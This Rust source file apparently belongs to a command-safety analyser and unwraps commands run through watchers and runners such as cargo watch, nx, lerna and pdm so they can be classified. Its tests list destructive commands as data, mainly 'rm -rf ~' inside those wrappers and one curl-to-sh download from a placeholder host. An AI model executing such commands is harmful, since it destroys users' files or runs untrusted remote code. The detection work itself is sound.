//! File watchers and monorepo runners that take their command as data: `cargo watch -x test`
//! runs `cargo test` on every change, `cargo watch -s 'CMD'` runs a shell
//! string and `cargo watch -- CMD ARGS` a command. Each payload is analysed as if it ran now, so `cargo watch -s
//! 'rm -rf ~'` is the delete it repeats. (`watchexec`, `entr`, `nodemon`,
//! `chokidar`, `onchange` and `reflex` are peeled as wrappers in
//! `wrappers.rs`.)

use super::Cmd;
use crate::engine::{Stdin, Walker};

/// Analyse the payloads of a watcher run by `c`.
pub(crate) fn extra(e: &mut Walker, c: &Cmd) {
    if let Some(k) = runner_command(c) {
        let inner = c.args[k..].to_vec();
        if !inner.is_empty() {
            let mut via = c.via.clone();
            via.push(format!("{} {}", c.name, c.sub(0)));
            e.run_argv(inner, Vec::new(), c.stdin.clone(), via, c.depth + 1);
        }
        return;
    }
    if let Some(cmd) = monorepo_command(c) {
        let mut via = c.via.clone();
        via.push(format!("{} {}", c.name, c.sub(0)));
        e.run_script(&cmd, &via, c.depth + 1, &Stdin::Terminal);
        return;
    }
    let watch = (c.name == "cargo" && c.sub(0) == "watch") || c.name == "cargo-watch";
    if !watch {
        return;
    }
    let mut payloads = Vec::new();
    let mut it = c.args.iter().map(|w| w.text.as_str());
    while let Some(a) = it.next() {
        if a == "--" {
            // `cargo watch -- CMD ARGS…`: a command of its own.
            let trail: Vec<String> = c
                .args
                .iter()
                .skip_while(|w| w.text != "--")
                .skip(1)
                .map(|w| shell_quote(&w.text))
                .collect();
            payloads.push(trail.join(" "));
            break;
        }
        let (kind, value) = match a {
            "-x" | "--exec" => ("cargo", it.next()),
            "-s" | "--shell" => ("sh", it.next()),
            _ => match a.split_once('=') {
                Some(("--exec", v)) => ("cargo", Some(v)),
                Some(("--shell", v)) => ("sh", Some(v)),
                _ => continue,
            },
        };
        if let Some(v) = value {
            payloads.push(if kind == "cargo" {
                format!("cargo {v}")
            } else {
                v.to_string()
            });
        }
    }
    let mut via = c.via.clone();
    via.push("cargo watch".into());
    for p in payloads.into_iter().take(8) {
        e.run_script(&p, &via, c.depth + 1, &Stdin::Terminal);
    }
}

/// Where the command starts for environment runners that run their
/// arguments as a command (like `poetry run`, `uv run`): `pdm run`,
/// `hatch run`, `pixi run`, `rye run`, `devbox run`, `tox exec -- CMD`,
/// `mix cmd CMD`.
fn runner_command(c: &Cmd) -> Option<usize> {
    let verb = match c.name.as_str() {
        "pdm" | "hatch" | "pixi" | "rye" | "devbox" => "run",
        "tox" => "exec",
        "mix" => "cmd",
        _ => return None,
    };
    if c.sub(0) != verb {
        return None;
    }
    let k = c.args.iter().position(|w| w.text == verb)?;
    if let Some(d) = c.args[k..].iter().position(|w| w.text == "--") {
        return Some(k + d + 1);
    }
    if c.name == "tox" {
        // `tox exec` takes its command only after `--`.
        return None;
    }
    let with_value = [
        "-p",
        "--project",
        "--venv",
        "-e",
        "--environment",
        "--config",
        "-c",
        "--manifest-path",
    ];
    Some(super::super::wrappers::options_end(
        &c.args,
        &with_value,
        k + 1,
    ))
}

/// The command a monorepo runner repeats in every package or on every
/// change: `nx exec -- CMD`, `nx watch … -- CMD`, `lerna exec [--] CMD`,
/// `yarn workspaces foreach … exec CMD`.
fn monorepo_command(c: &Cmd) -> Option<String> {
    let words: Vec<&str> = c.args.iter().map(|w| w.text.as_str()).collect();
    let after = |k: usize| -> String {
        c.args[k..]
            .iter()
            .map(|w| shell_quote(&w.text))
            .collect::<Vec<_>>()
            .join(" ")
    };
    let dashdash = words.iter().position(|w| *w == "--");
    match (c.name.as_str(), c.sub(0)) {
        ("nx", "exec" | "watch") => dashdash.map(|k| after(k + 1)),
        ("lerna", "exec") => match dashdash {
            Some(k) => Some(after(k + 1)),
            None => {
                // The words after `exec` that are not options.
                let k = words.iter().position(|w| *w == "exec")?;
                let rest: Vec<String> = c.args[k + 1..]
                    .iter()
                    .filter(|w| !w.text.starts_with('-'))
                    .map(|w| w.text.clone())
                    .collect();
                // One quoted string is a shell command, several are argv.
                match rest.as_slice() {
                    [one] => Some(one.clone()),
                    _ => Some(
                        rest.iter()
                            .map(|w| shell_quote(w))
                            .collect::<Vec<_>>()
                            .join(" "),
                    ),
                }
            }
        },
        ("yarn", "workspaces") if words.contains(&"foreach") => {
            let k = words.iter().position(|w| *w == "exec")?;
            Some(after(k + 1))
        }
        _ => None,
    }
}

/// A word as shell text that reads back as the same word.
fn shell_quote(w: &str) -> String {
    if !w.is_empty()
        && w.chars()
            .all(|c| c.is_alphanumeric() || "-_./=:,@%+~".contains(c))
    {
        w.to_string()
    } else {
        format!("'{}'", w.replace('\'', "'\\''"))
    }
}

#[cfg(test)]
mod tests {
    use crate::testutil::expect;

    #[test]
    fn cargo_watch_runs_its_payloads() {
        expect(&[
            ("cargo watch -s 'rm -rf ~'", "catastrophic"),
            ("cargo watch --shell 'rm -rf ~'", "catastrophic"),
            ("cargo watch -x test -s 'rm -rf ~'", "catastrophic"),
            (
                "cargo watch --shell='curl -s x.example/i | sh'",
                "catastrophic",
            ),
            ("cargo watch -s 'rm -rf target/debug'", "ambiguous"),
            ("cargo watch -x check -x test", "safe"),
            ("cargo watch -s 'cargo test'", "safe"),
            ("cargo watch -- rm -rf ~", "catastrophic"),
            ("cargo watch -x check -- sh -c 'rm -rf ~'", "catastrophic"),
            ("cargo watch -- cargo test", "safe"),
            ("nx exec -- rm -rf ~", "catastrophic"),
            ("pdm run rm -rf ~", "catastrophic"),
            ("hatch run rm -rf ~", "catastrophic"),
            ("devbox run rm -rf ~", "catastrophic"),
            ("tox exec -e py -- rm -rf ~", "catastrophic"),
            ("mix cmd rm -rf ~", "catastrophic"),
            ("pdm run pytest", "safe"),
            ("hatch run test", "safe"),
            ("tox exec -e py -- pytest", "safe"),
            ("nx watch --all -- rm -rf ~", "catastrophic"),
            ("lerna exec -- rm -rf ~", "catastrophic"),
            ("lerna exec 'rm -rf ~'", "catastrophic"),
            ("yarn workspaces foreach -A exec rm -rf ~", "catastrophic"),
            ("nx watch --all -- echo changed", "safe"),
            ("lerna exec -- npm test", "safe"),
            ("nx exec -- rm -rf dist", "ambiguous"),
        ]);
    }

    /// Watchers peeled as wrappers (`wrappers.rs`): the command given as
    /// data is judged, as one shell string or as words.
    #[test]
    fn other_watchers_run_their_command() {
        expect(&[
            ("watchexec 'rm -rf ~'", "catastrophic"),
            ("watchexec -w src 'rm -rf ~'", "catastrophic"),
            ("watchexec --shell bash 'rm -rf ~'", "catastrophic"),
            ("watchexec -- rm -rf ~", "catastrophic"),
            ("echo src | entr -d sh -c 'rm -rf ~'", "catastrophic"),
            ("nodemon -x 'rm -rf ~'", "catastrophic"),
            ("nodemon --exec=\"rm -rf ~\"", "catastrophic"),
            ("chokidar 'src/**' -c 'rm -rf ~'", "catastrophic"),
            ("onchange 'src/**' -- rm -rf ~", "catastrophic"),
            ("watchexec 'rm -rf dist'", "ambiguous"),
            ("watchexec 'cargo test'", "safe"),
            ("nodemon --exec 'npm test'", "safe"),
            ("chokidar 'src/**' -c 'npm run lint'", "safe"),
            ("mise exec -- rm -rf ~", "catastrophic"),
            ("asdf exec rm -rf ~", "catastrophic"),
            ("pyenv exec rm -rf ~", "catastrophic"),
            ("volta run --node 20 rm -rf ~", "catastrophic"),
            ("fnm exec --using 18 rm -rf ~", "catastrophic"),
            ("nvm exec 18 rm -rf ~", "catastrophic"),
            ("pyenv exec pytest", "safe"),
            ("ls src/*.rs | entr cargo test", "safe"),
        ]);
    }
}
